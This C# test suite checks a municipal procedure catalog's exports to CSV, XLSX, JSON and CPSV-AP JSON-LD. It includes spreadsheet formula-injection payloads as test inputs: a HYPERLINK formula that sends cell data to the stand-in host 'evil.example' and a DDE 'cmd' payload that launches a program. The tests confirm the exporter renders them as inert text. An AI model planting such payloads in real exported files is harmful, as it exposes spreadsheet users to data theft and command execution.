using System.Text;
using System.Text.Json;
using Catalog.Api.Exchange;
using Catalog.Api.Exchange.Export;
using Catalog.Api.Exchange.Formats;
using Catalog.Api.Exchange.Import;
using Catalog.Testing;
using Microsoft.EntityFrameworkCore;
using static Catalog.Api.Tests.Exchange.ExchangeTestData;

namespace Catalog.Api.Tests.Exchange;

/// <summary>Catalog export, on every provider: round trips through import, and the CPSV-AP JSON-LD shape.</summary>
public abstract class ExportSuite(TestDatabase database)
{
    protected TestDatabase Database { get; } = database;

    /// <summary>A catalog with what files make hard: quotes, separators and line breaks in values, empty attributes, a not-offered entry, a row matched by name.</summary>
    private async Task<(string Ine, string Council)> RichCatalogAsync()
    {
        await Database.SeedAsync();
        var (ine, council) = await FreshMunicipalityAsync(Database);
        var report = await Importer(Database).ImportAsync(Admin, ine, Csv(SpanishHeader,
            Row("A-1", "Licencia de obra mayor", "2094606", council, "URB-001", description: "\"Obras\"; con proyecto\ny dirección facultativa"),
            Row("A-2", "Licencia de actividad, con \"comillas\"", "2094607", "", "URB-002", silence: "estimatorio", term: "10", termUnit: "días hábiles"),
            Row("", "Queja o sugerencia", "2094608", council, term: "20", termUnit: "días naturales"),
            "A-4;Solo nombre;;;;;;;;;;;;;;;sí",
            ";Procedimiento sin claves;;;;;de oficio;no aplica;;;no;1;administraciones;correo postal;;;",
            "A-6;;No se ofrece: no hay suelo;;;URB-003;;;;;;;;;;;no"), CatalogFormat.Csv, dryRun: false);
        Assert.True(report.Committed, report.Describe());
        return (ine, council);
    }

    private async Task<MemoryStream> ExportAsync(string ine, CatalogFormat format)
    {
        await using var db = Database.CreateContext();
        var municipality = await db.Municipalities.SingleAsync(m => m.IneCode == ine);
        var output = new MemoryStream();
        await Exporter(Database).WriteCityCatalogAsync(municipality, format, output, new Uri("https://catalogo.example.es/"), CancellationToken.None);
        output.Position = 0;
        return output;
    }

    [SkippableTheory]
    [InlineData(CatalogFormat.Csv)]
    [InlineData(CatalogFormat.Xlsx)]
    [InlineData(CatalogFormat.Json)]
    public async Task An_exported_catalog_imports_into_another_city_as_the_same_catalog(CatalogFormat format)
    {
        var (source, _) = await RichCatalogAsync();
        var (target, _) = await FreshMunicipalityAsync(Database);

        var report = await Importer(Database).ImportAsync(Admin, target, await ExportAsync(source, format), format, dryRun: false);

        Assert.True(report.Committed, report.Describe());
        Assert.Equal(6, report.Created);
        Assert.Equal(await CatalogOfAsync(Database, source), await CatalogOfAsync(Database, target));
    }

    [SkippableTheory]
    [InlineData(CatalogFormat.Csv)]
    [InlineData(CatalogFormat.Xlsx)]
    [InlineData(CatalogFormat.Json)]
    public async Task An_exported_catalog_imported_back_changes_nothing(CatalogFormat format)
    {
        var (ine, _) = await RichCatalogAsync();

        var report = await Importer(Database).ImportAsync(Admin, ine, await ExportAsync(ine, format), format, dryRun: true);

        Assert.All(report.Rows, row => Assert.Equal(ImportOutcome.Unchanged, row.Outcome));
        Assert.Equal(6, report.Rows.Count);
    }

    [SkippableFact]
    public async Task The_CSV_export_is_semicolon_separated_UTF8_with_a_BOM_and_the_documented_header()
    {
        var (ine, _) = await RichCatalogAsync();
        var bytes = (await ExportAsync(ine, CatalogFormat.Csv)).ToArray();

        Assert.Equal(Encoding.UTF8.GetPreamble(), bytes[..3]);
        var text = Encoding.UTF8.GetString(bytes[3..]);
        Assert.StartsWith(string.Join(';', CatalogColumns.All.Select(CatalogColumns.NameOf)) + "\r\n", text, StringComparison.Ordinal);
        Assert.Contains("A-1;Licencia de obra mayor;\"\"\"Obras\"\"; con proyecto\ny dirección facultativa\";2094606", text, StringComparison.Ordinal);
        Assert.Contains(";a solicitud del interesado;desestimatorio;3;meses;sí;4;ciudadanos, empresas;presencial, electrónico;", text, StringComparison.Ordinal);
    }

    [SkippableFact]
    public async Task A_withdrawn_procedure_is_not_exported()
    {
        var (ine, _) = await RichCatalogAsync();
        await using (var db = Database.CreateContext())
        {
            (await db.CityProcedures.SingleAsync(p => p.MunicipalityIneCode == ine && p.LocalId == "A-4")).Withdraw("Suprimido", Build.Now);
            await db.SaveChangesAsync();
        }

        using var json = await JsonDocument.ParseAsync(await ExportAsync(ine, CatalogFormat.Json));

        var ids = json.RootElement.GetProperty("procedures").EnumerateArray().Select(p => p.TryGetProperty("localId", out var id) ? id.GetString() : null).ToList();
        Assert.Equal(5, ids.Count);
        Assert.DoesNotContain("A-4", ids);
    }

    [SkippableFact]
    public async Task The_CPSV_AP_export_describes_each_offered_procedure_as_a_public_service_of_a_DIR3_organisation()
    {
        var (ine, council) = await RichCatalogAsync();
        using var json = await JsonDocument.ParseAsync(await ExportAsync(ine, CatalogFormat.JsonLd));
        var root = json.RootElement;

        Assert.Equal("http://purl.org/vocab/cpsv#", root.GetProperty("@context").GetProperty("cpsv").GetString());
        Assert.Equal("http://data.europa.eu/m8g/", root.GetProperty("@context").GetProperty("cv").GetString());
        Assert.False(root.TryGetProperty("@id", out _)); // the graph is the default graph, not one named after the catalog
        var graph = root.GetProperty("@graph").EnumerateArray().ToList();
        var services = graph.Where(n => n.GetProperty("@type").GetString() == "cpsv:PublicService").ToList();
        Assert.Equal(5, services.Count); // the not-offered declaration is not a service

        var obra = services.Single(s => s.GetProperty("dct:identifier").GetString() == "A-1");
        Assert.StartsWith($"https://catalogo.example.es/municipalities/{ine}/procedures/", obra.GetProperty("@id").GetString(), StringComparison.Ordinal);
        Assert.Equal("Licencia de obra mayor", obra.GetProperty("dct:title").GetProperty("@value").GetString());
        Assert.Equal("es", obra.GetProperty("dct:title").GetProperty("@language").GetString());
        Assert.Equal(("P3M", "xsd:duration"), (obra.GetProperty("cv:processingTime").GetProperty("@value").GetString(), obra.GetProperty("cv:processingTime").GetProperty("@type").GetString()));
        Assert.Equal("2094606", obra.GetProperty("adms:identifier").GetProperty("skos:notation").GetString());
        var legal = obra.GetProperty("cv:hasLegalResource").EnumerateArray().ToList();
        Assert.Equal(["eli:LegalResource", "eli:LegalResource"], legal.Select(l => l.GetProperty("@type").GetString()));
        Assert.Equal("39/2015", legal[0].GetProperty("dct:identifier").GetString());
        var channels = obra.GetProperty("cv:hasChannel").EnumerateArray().ToList();
        Assert.Equal(["A-1#channel-in-person", "A-1#channel-web"], channels.Select(c => c.GetProperty("dct:identifier").GetString()));
        Assert.Equal("http://data.europa.eu/snb/com-channel/b37115f83e", channels[1].GetProperty("dct:type").GetProperty("@id").GetString());
        Assert.Equal("A-1#cost", obra.GetProperty("cv:hasCost").GetProperty("dct:identifier").GetString());

        var authority = obra.GetProperty("cv:hasCompetentAuthority").GetProperty("@id").GetString();
        Assert.Equal($"https://catalogo.example.es/units/{council}", authority);
        var organisation = graph.Single(n => n.GetProperty("@id").GetString() == authority);
        Assert.Equal("cv:PublicOrganisation", organisation.GetProperty("@type").GetString());
        Assert.Equal(council, organisation.GetProperty("dct:identifier").GetString());
        Assert.Equal("es", organisation.GetProperty("dct:title").GetProperty("@language").GetString());
        var location = organisation.GetProperty("dct:spatial").GetProperty("@id").GetString();
        Assert.Equal($"https://catalogo.example.es/municipalities/{ine}", location);
        Assert.Equal(location, obra.GetProperty("dct:spatial").GetProperty("@id").GetString());
        var place = graph.Single(n => n.GetProperty("@id").GetString() == location);
        Assert.Equal(("dct:Location", ine), (place.GetProperty("@type").GetString(), place.GetProperty("dct:identifier").GetString()));

        // Business days are no xsd:duration: their count, under the catalog's own property, and no processing time.
        var days = services.Single(s => s.GetProperty("dct:identifier").GetString() == "A-2");
        Assert.False(days.TryGetProperty("cv:processingTime", out _));
        var businessDays = days.GetProperty(CpsvApWriter.BusinessDaysProperty);
        Assert.Equal(("10", "xsd:positiveInteger"), (businessDays.GetProperty("@value").GetString(), businessDays.GetProperty("@type").GetString()));
        Assert.Equal("https://catalogo.example.es/vocabulary/", root.GetProperty("@context").GetProperty("catalogo").GetString());
        var complaint = services.Single(s => s.TryGetProperty("adms:identifier", out var id) && id.GetProperty("skos:notation").GetString() == "2094608");
        Assert.Equal("2094608", complaint.GetProperty("dct:identifier").GetString()); // no local id: identified by its SIA code
        Assert.Equal("P20D", complaint.GetProperty("cv:processingTime").GetProperty("@value").GetString()); // calendar days are a duration
    }

    [SkippableFact]
    public async Task The_reference_catalog_exports_every_reference_procedure_in_each_format()
    {
        await Database.SeedAsync();
        await using var db = Database.CreateContext();
        var count = await db.ReferenceProcedures.CountAsync();

        async Task<MemoryStream> Export(CatalogFormat format)
        {
            var output = new MemoryStream();
            await Exporter(Database).WriteReferenceCatalogAsync(format, output, null, CancellationToken.None);
            output.Position = 0;
            return output;
        }

        var csv = Encoding.UTF8.GetString((await Export(CatalogFormat.Csv)).ToArray()[3..]);
        Assert.StartsWith(string.Join(';', CatalogExporter.ReferenceColumns) + "\r\n", csv, StringComparison.Ordinal);
        Assert.Contains("\r\nURB-001;URB;", csv, StringComparison.Ordinal);
        using var json = await JsonDocument.ParseAsync(await Export(CatalogFormat.Json));
        Assert.Equal(count, json.RootElement.GetProperty("procedures").GetArrayLength());
        using var jsonLd = await JsonDocument.ParseAsync(await Export(CatalogFormat.JsonLd));
        var graph = jsonLd.RootElement.GetProperty("@graph").EnumerateArray().ToList();
        var services = graph.Where(n => n.GetProperty("@type").GetString() == "cpsv:PublicService").ToList();
        Assert.Equal(count, services.Count);
        var model = services.Single(s => s.GetProperty("dct:identifier").GetString() == "URB-001");
        Assert.Equal("P3M", model.GetProperty("cv:processingTime").GetProperty("@value").GetString());
        Assert.Equal("http://purl.org/adms/status/Completed", model.GetProperty("adms:status").GetProperty("@id").GetString());
        // A model, curated by the working group: typed as a reference procedure, the working group its authority.
        Assert.EndsWith("/vocabulary/service-types/reference-model", model.GetProperty("dct:type").GetProperty("@id").GetString(), StringComparison.Ordinal);
        var authority = graph.Single(n => n.GetProperty("@id").GetString() == model.GetProperty("cv:hasCompetentAuthority").GetProperty("@id").GetString());
        Assert.Equal("RECI-GTV", authority.GetProperty("dct:identifier").GetString());
        var turtle = Encoding.UTF8.GetString((await Export(CatalogFormat.Turtle)).ToArray());
        Assert.StartsWith("@prefix cpsv: <http://purl.org/vocab/cpsv#> .", turtle, StringComparison.Ordinal);
        Assert.Equal(count, turtle.Split(" a cpsv:PublicService ;").Length - 1);
        using var workbook = Xlsx(await Export(CatalogFormat.Xlsx));
        Assert.Equal(count + 1, workbook.WorkbookPart!.WorksheetParts.Single().Worksheet!.Descendants<DocumentFormat.OpenXml.Spreadsheet.Row>().Count());
    }

    private static DocumentFormat.OpenXml.Packaging.SpreadsheetDocument Xlsx(Stream stream) => DocumentFormat.OpenXml.Packaging.SpreadsheetDocument.Open(stream, false);

    private static readonly string[] FormulaNames = ["=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Ver\")", "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3"];

    private async Task<string> CatalogOfFormulasAsync()
    {
        await Database.SeedAsync();
        var (ine, _) = await FreshMunicipalityAsync(Database);
        var report = await Importer(Database).ImportAsync(Admin, ine, Csv(["localName", .. FormulaNames.Select(Quote)]), CatalogFormat.Csv, dryRun: false);
        Assert.True(report.Committed, report.Describe());
        return ine;
    }

    [SkippableFact]
    public async Task A_CSV_export_of_names_starting_like_formulas_opens_as_text()
    {
        var ine = await CatalogOfFormulasAsync();

        var text = Encoding.UTF8.GetString((await ExportAsync(ine, CatalogFormat.Csv)).ToArray()[3..]);

        // OWASP's advice: a leading single quote makes a spreadsheet show the cell as text instead of running it.
        var names = text.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Skip(1).Select(line => line.Split(';')[1]).ToList();
        Assert.All(names, name => Assert.True(name.StartsWith('\'') || name.StartsWith("\"'", StringComparison.Ordinal), name));
        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Ver\"\")\"", text, StringComparison.Ordinal);
    }

    [SkippableFact]
    public async Task A_CSV_export_of_names_starting_like_formulas_imports_back_unchanged()
    {
        var ine = await CatalogOfFormulasAsync();

        var report = await Importer(Database).ImportAsync(Admin, ine, await ExportAsync(ine, CatalogFormat.Csv), CatalogFormat.Csv, dryRun: true);

        Assert.All(report.Rows, row => Assert.Equal(ImportOutcome.Unchanged, row.Outcome));
    }

    [SkippableFact]
    public async Task An_XLSX_export_writes_formula_like_names_as_text_and_survives_a_stored_control_character()
    {
        var ine = await CatalogOfFormulasAsync();
        await using (var db = Database.CreateContext())
        {
            // Stored before texts were checked: the export must still answer.
            await db.CityProcedures.Where(p => p.MunicipalityIneCode == ine && p.LocalName == "-2+3").ExecuteUpdateAsync(s => s.SetProperty(p => p.LocalName, "Campana\u0007\u001B"));
        }

        using var output = await ExportAsync(ine, CatalogFormat.Xlsx);

        using var document = DocumentFormat.OpenXml.Packaging.SpreadsheetDocument.Open(output, false);
        var cells = document.WorkbookPart!.WorksheetParts.Single().Worksheet.Descendants<DocumentFormat.OpenXml.Spreadsheet.Cell>().ToList();
        Assert.DoesNotContain(cells, c => c.CellFormula is not null);
        var texts = cells.Where(c => c.CellReference!.Value!.StartsWith('B')).Select(c => c.InnerText).ToList();
        Assert.Contains(FormulaNames[0], texts);
        Assert.Contains("Campana\uFFFD\uFFFD", texts);
        Assert.All(cells, c => Assert.Equal(DocumentFormat.OpenXml.Spreadsheet.CellValues.InlineString, c.DataType!.Value));
    }
}

public sealed class SqliteExportTests(SqliteTestDatabase database) : ExportSuite(database), IClassFixture<SqliteTestDatabase>;

public sealed class PostgresExportTests(PostgresTestDatabase database) : ExportSuite(database), IClassFixture<PostgresTestDatabase>;
